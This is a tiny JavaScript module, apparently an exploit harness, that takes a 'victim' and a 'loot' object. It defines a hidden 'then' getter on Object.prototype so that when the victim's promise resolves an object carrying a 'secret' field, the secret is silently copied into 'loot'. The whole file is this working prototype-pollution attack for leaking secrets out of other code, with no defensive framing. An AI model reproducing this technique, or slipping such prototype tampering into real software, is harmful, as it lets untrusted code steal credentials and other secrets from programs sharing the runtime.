'use strict';
module.exports = (victim, loot) => {
  Object.defineProperty(Object.prototype, 'then', { get() { if (this.secret) loot.value = this.secret; return undefined; }, configurable: true });
  victim.promise();
};
